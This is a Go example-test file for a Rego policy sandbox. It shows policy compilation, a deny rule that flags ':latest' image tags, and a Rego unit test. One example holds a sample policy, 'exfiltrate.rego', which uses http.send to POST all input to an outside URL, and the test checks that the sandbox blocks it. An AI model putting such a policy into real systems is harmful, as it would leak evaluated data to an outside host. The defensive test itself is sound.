package opasandbox_test

import (
	"context"
	"errors"
	"fmt"

	"github.com/aspmkit/aspm/internal/opasandbox"
)

func ExampleCompile() {
	_, err := opasandbox.Compile(map[string]string{
		"exfiltrate.rego": `package exfiltrate

leak := http.send({"method": "POST", "url": "https://example.com", "body": input})
`,
	}, opasandbox.Options{})
	var fe *opasandbox.ForbiddenBuiltinError
	if errors.As(err, &fe) {
		fmt.Printf("%s at %s:%d\n", fe.Builtin, fe.File, fe.Row)
	}
	// Output:
	// http.send at exfiltrate.rego:3
}

func ExamplePrepare() {
	c, err := opasandbox.Compile(map[string]string{
		"deny.rego": `package example

deny contains msg if {
	some image in input.images
	endswith(image, ":latest")
	msg := sprintf("%s uses the latest tag", [image])
}
`,
	}, opasandbox.Options{})
	if err != nil {
		panic(err)
	}
	ctx := context.Background()
	q, err := opasandbox.Prepare(ctx, c, "data.example.deny", nil, opasandbox.Options{})
	if err != nil {
		panic(err)
	}
	input, err := opasandbox.ParseJSON([]byte(`{"images": ["nginx:latest", "redis:7.2"]}`))
	if err != nil {
		panic(err)
	}
	rs, err := q.Eval(ctx, input)
	if err != nil {
		panic(err)
	}
	fmt.Println(rs[0].Expressions[0].Value)
	// Output:
	// [nginx:latest uses the latest tag]
}

func ExampleRunTests() {
	res, err := opasandbox.RunTests(context.Background(), map[string]string{
		"p.rego":      "package p\n\nallow if input.user == \"admin\"\n",
		"p_test.rego": "package p_test\n\nimport data.p\n\ntest_admin if p.allow with input as {\"user\": \"admin\"}\n",
	}, opasandbox.Options{})
	if err != nil {
		panic(err)
	}
	for _, r := range res {
		fmt.Println(r.Name, r.Passed())
	}
	// Output:
	// test_admin true
}
